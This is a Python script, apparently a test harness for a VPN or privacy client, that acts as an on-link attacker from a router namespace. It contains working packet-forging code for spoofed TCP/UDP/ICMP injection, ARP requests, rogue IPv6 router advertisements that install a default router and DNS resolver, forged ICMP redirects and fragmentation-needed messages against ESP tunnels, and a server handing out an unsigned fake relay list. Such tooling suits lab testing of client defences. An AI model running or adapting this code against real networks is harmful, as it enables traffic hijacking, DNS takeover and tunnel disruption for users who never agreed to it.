#!/usr/bin/env python3
"""What somebody on a client's link can send it. Run in the namespace of the router there, as root.

usage: attack.py inject DEVICE MAC PEER:PORT ADDRESS...   to each of these addresses, as if PEER had sent it: TCP with SYN, SYN and
                                                          ACK, ACK and RST to some ports, UDP, ping, ICMP errors; ARP asks for it
       attack.py advertise DEVICE PREFIX                  a router advertisement: default router, prefix (/64), resolver
       attack.py redirect DEVICE MAC GATEWAY CLIENT TARGET SPI   ICMP redirect of TARGET to GATEWAY, quoting ESP
       attack.py shrink DEVICE MAC GATEWAY CLIENT TARGET SPI     ICMP fragmentation needed, 600 bytes, quoting ESP
       attack.py directory ADDRESS:PORT                   answers every request with a list that nobody has signed

Prints how many frames were sent.
"""
import http.server
import socket
import struct
import sys

IPV4, IPV6, ARP = 0x0800, 0x86DD, 0x0806
ICMP, TCP, UDP, ESP, ICMPV6 = 1, 6, 17, 50, 58
SYN, RST, ACK = 2, 4, 16
PORTS = (22, 80, 9000, 32768, 40000, 50000)
ALL_NODES = "ff02::1"


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ipv4(source, target, protocol, body):
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, protocol, 0, source, target)
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + body


def tcp(source, sport, target, dport, flags):
    body = struct.pack(">HHIIBBHHH", sport, dport, 1000, 2000, 0x50, flags, 8192, 0, 0)
    total = checksum(source + target + struct.pack(">HH", TCP, len(body)) + body)
    return ipv4(source, target, TCP, body[:16] + struct.pack(">H", total) + body[18:])


def icmp(source, target, kind, code, rest, quoted=b""):
    body = struct.pack(">BBH4s", kind, code, 0, rest) + quoted
    return ipv4(source, target, ICMP, body[:2] + struct.pack(">H", checksum(body)) + body[4:])


def injected(peer, port, target):
    for there in PORTS:
        for flags in (SYN, SYN | ACK, ACK, RST):
            yield tcp(peer, port, target, there, flags)
        yield ipv4(peer, target, UDP, struct.pack(">HHHH", port, there, 16, 0) + bytes(8))
    yield icmp(peer, target, 8, 0, b"\0\1\0\1", bytes(16))
    quoted = ipv4(target, peer, TCP, struct.pack(">HHI", PORTS[-1], port, 1))
    yield icmp(peer, target, 3, 1, bytes(4), quoted)
    yield icmp(peer, target, 3, 4, struct.pack(">HH", 0, 600), quoted)


class Link:
    def __init__(self, device, mac):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.sock.bind((device, 0))
        own = self.sock.getsockname()[4]
        self.mac, self.own = bytes.fromhex(mac.replace(":", "")), own
        self.sent = 0

    def send(self, kind, packet):
        self.sock.send(self.mac + self.own + struct.pack(">H", kind) + packet)
        self.sent += 1


def inject(device, mac, peer, *addresses):
    link = Link(device, mac)
    host, _, port = peer.partition(":")
    for address in addresses:
        for packet in injected(socket.inet_aton(host), int(port), socket.inet_aton(address)):
            link.send(IPV4, packet)
        link.send(ARP, struct.pack(">HHBBH6s4s6s4s", 1, IPV4, 6, 4, 1, link.own, socket.inet_aton(host), bytes(6),
                                   socket.inet_aton(address)))
    return link.sent


def advertise(device, prefix):
    link = Link(device, "33:33:00:00:00:01")
    source = b"\xfe\x80" + bytes(6) + bytes([link.own[0] ^ 2]) + link.own[1:3] + b"\xff\xfe" + link.own[3:]
    target = socket.inet_pton(socket.AF_INET6, ALL_NODES)
    network = socket.inet_pton(socket.AF_INET6, prefix)
    resolver = network[:15] + b"\x35"
    body = struct.pack(">BBHBBHII", 134, 0, 0, 64, 0x08, 1800, 0, 0)  # the most preferred router
    body += struct.pack(">BBBBIII16s", 3, 4, 64, 0xC0, 86400, 14400, 0, network)
    body += struct.pack(">BBHI16s", 25, 3, 0, 1200, resolver)
    body += struct.pack(">BB6s", 1, 1, link.own)
    total = checksum(source + target + struct.pack(">II", len(body), ICMPV6) + body)
    body = body[:2] + struct.pack(">H", total) + body[4:]
    link.send(IPV6, struct.pack(">IHBB16s16s", 6 << 28, len(body), ICMPV6, 255, source, target) + body)
    return link.sent


def quoting(device, mac, gateway, client, target, spi, kind, code, rest):
    link = Link(device, mac)
    gateway, client, target = (socket.inet_aton(a) for a in (gateway, client, target))
    for number in (1, 100):
        quoted = ipv4(client, target, ESP, struct.pack(">II", int(spi, 0), number))
        link.send(IPV4, icmp(gateway, client, kind, code, rest or gateway, quoted))
    return link.sent


def redirect(*args):
    return quoting(*args, 5, 1, None)


def shrink(*args):
    return quoting(*args, 3, 4, struct.pack(">HH", 0, 600))


class Forged(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"ippriv list 1\nrelays 0\n" * 20
        print("asked", self.path, flush=True)
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def directory(where):
    address, _, port = where.partition(":")
    server = http.server.HTTPServer((address, int(port)), Forged)
    print("directory: ready", flush=True)
    server.serve_forever()


commands = {"inject": inject, "advertise": advertise, "redirect": redirect, "shrink": shrink, "directory": directory}
if len(sys.argv) < 3 or sys.argv[1] not in commands:
    sys.exit(__doc__)
print(commands[sys.argv[1]](*sys.argv[2:]))
